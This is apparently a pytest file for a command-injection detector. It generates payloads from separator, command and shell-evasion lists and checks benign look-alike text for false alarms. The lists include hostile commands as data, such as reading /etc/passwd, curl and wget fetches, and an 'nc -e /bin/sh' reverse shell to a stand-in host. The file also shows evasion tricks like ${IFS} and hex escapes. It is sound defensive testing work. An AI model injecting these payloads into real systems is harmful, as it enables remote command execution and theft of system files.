"""OS command injection as injection tools build it: a separator, a command, and shell evasions.

The payloads are generated the way commix-style tools and wordlists compose them (every separator
with every command and evasion, seeded), so a rule that knows one list entry but not the shape fails.
"""

from __future__ import annotations

import random
from urllib.parse import quote, quote_plus

import orjson

from detectors.injection import decode
from detectors.injection.analyzer import Analyzer

# Where an injected command starts: after a statement, a pipe, a logic operator, a new line (raw and
# encoded), inside a substitution, or after breaking out of a quoted argument.
SEPARATORS = ["; {}", ";{}", "| {}", "|{}", "|| {}", "&& {}", "& {};", "\n{}", "%0a{}", "%0d%0a{}", "`{}`",
              "$({})", "';{};'", "\"|{}|\"", "a;{}#", "1 && {} &&", "shoes|{}|"]
COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "ps aux", "ip addr", "ss -tulpn",
            "sleep {n}", "ping -c {n} 127.0.0.1", "nslookup x{n}.oast.example", "curl http://x{n}.example/a.sh",
            "wget http://10.0.0.{n}/s", "echo chk{n}$(({n}+{n}))", "timeout /t {n}", "type C:\\Windows\\win.ini",
            "net user", "systeminfo", "powershell -nop -c iex(1)", "nc -e /bin/sh 10.0.0.{n} 4444",
            "python3 -c 'import os'", "perl -e 'sleep {n}'", "java -jar x{n}.jar", "ping -n {n} localhost"]


def _evade(command: str, rng: random.Random) -> str:
    """One shell evasion a tool applies to a command: the shell still runs the same command."""
    word, _, rest = command.partition(" ")
    choice = rng.randrange(7)
    if choice == 0 and rest:
        return command.replace(" ", "${IFS}")
    if choice == 1 and len(word) > 2:
        return word[:1] + "''" + word[1:] + (" " + rest if rest else "")
    if choice == 2 and len(word) > 2:
        return word[:2] + "\\" + word[2:] + (" " + rest if rest else "")
    if choice == 3 and len(word) > 2:
        return word[:1] + "$@" + word[1:] + (" " + rest if rest else "")
    if choice == 4 and rest and " " not in rest:
        return "{" + word + "," + rest + "}"
    if choice == 5 and not rest:
        return "$'" + "".join(f"\\x{ord(c):02x}" for c in word) + "'"
    return command


def generated(count: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        command = rng.choice(COMMANDS).format(n=rng.randint(2, 99))
        if rng.random() < 0.5:
            command = _evade(command, rng)
        out.append(rng.choice(SEPARATORS).format(command))
    return out


def _classes(analyzer: Analyzer, fields: dict[str, str]) -> set[str]:
    return {f.cls for f in analyzer.findings(fields) if not f.weak}


def _placed(payload: str) -> list[dict[str, str]]:
    sent = quote(payload, safe="%") if "%0" in payload else quote_plus(payload)
    plain = decode.url_decode(payload, False)
    return [{"url.query": "host=" + sent + "&page=1"},
            {"http.request.body.content": "name=Amy&host=" + sent},
            {"http.request.body.content": orjson.dumps({"host": plain, "qty": 1}).decode()}]


def test_generated_command_injections_alert_as_command(analyzer: Analyzer) -> None:
    for seed in (3, 17, 29):
        missed = [(p, f) for p in generated(150, seed) for f in _placed(p) if "command" not in _classes(analyzer, f)]
        assert not missed, missed[:5]


def test_shell_evasions_are_undone_before_matching() -> None:
    assert decode.shell_fold("$'\\x69\\x64'") == "id"
    assert decode.shell_fold("$'\\167\\150\\157\\141\\155\\151'") == "whoami"
    assert decode.shell_fold("cat${IFS}/etc/passwd") == "cat /etc/passwd"
    assert decode.shell_fold("cat$IFS$9/etc/passwd") == "cat /etc/passwd"
    assert decode.shell_fold("{cat,/etc/passwd}") == "cat /etc/passwd"
    assert decode.shell_fold("w$@ho$()am$1i") == "whoami"
    assert decode.shell_fold("c\"\"at /e't'c/pas's'wd") == "cat /etc/passwd"
    assert decode.shell_fold("w^h^o^a^m^i") == "whoami"
    # A quoted phrase stays one word: the shell would look for a command named "sleep 50".
    assert decode.shell_fold("'sleep 50'") == "'sleep 50'"


# Text people send that has a separator, a quote, a dollar or a brace next to a word a shell knows.
HARD_NEGATIVES = [
    "Name; ID card attached", "Java | Python | Go", "Price: $5; shipping free", "Tom & Jerry", "Mix 'n' match",
    "Q&A: who am I?", "Dimensions: 5' x 3'", "Colours {red,blue,green}", "I'll ping you at 5; sleep tight",
    "Deliver by 5; ps: thanks", "see you at 10 | timeout at 11", "Sizes: S | M | L; type: cotton",
    "Open 9-5; date TBD", "the `free` shipping code", "Order #12; find attached", "R&D; net income up",
    "email me at jo@example.com; cat lover", "Rock && roll", "US$5 each", "it's $HOME sweet home",
    "O'Brien's \"Echo\" Tea", "He said \"ls\" twice", "Set of 3 | Echo Dot", "My sponsor's id; 12345",
]


def test_text_with_shell_characters_is_not_a_command(analyzer: Analyzer) -> None:
    loud = {text: c for text in HARD_NEGATIVES for f in _placed(text) if (c := _classes(analyzer, f))}
    assert not loud


def test_a_keyboard_sweep_is_not_a_probe_and_a_backtick_breakout_is() -> None:
    from detectors.injection.probes import keyboard_sweep, lone_class

    for sweep in ["!@#$%^&*()`~", ",./;'[]\\-=", '<>?:"{}|_+', "qwerty", "asdf;'", "!@#$%^"]:
        assert keyboard_sweep(sweep) and lone_class(sweep) is None, sweep
    for probe in ["<>\"'%;)(&+", "*(|(mail=*))", "'--", "!@#", "=;", "|"]:
        assert not keyboard_sweep(probe), probe
    assert lone_class("a`)`") == "command" and lone_class("1`;") == "command"


def test_tight_and_quoted_recon_commands_alert(analyzer: Analyzer) -> None:
    # A recon word alone is a command when glued to a separator or closed by a quote it broke out of;
    # spaced after a list separator ("Sort by: Price | Date") it stays prose.
    loud = ["$(date)", "$(hostname)", "shoes&ver", "1&&dir'", "x&env#", "';ps'", "\"|whoami\"", "a&who;",
            "1 & type C:\\boot.ini", "'; id'"]
    assert [v for v in loud if not any("command" in _classes(analyzer, f) for f in _placed(v))] == []
    quiet = ["Sort by: Price | Date", "Name & ID", "Server | Hostname", "Terms ; Date", "$(document).ready"]
    assert {v: c for v in quiet for f in _placed(v) if (c := _classes(analyzer, f) & {"command"})} == {}
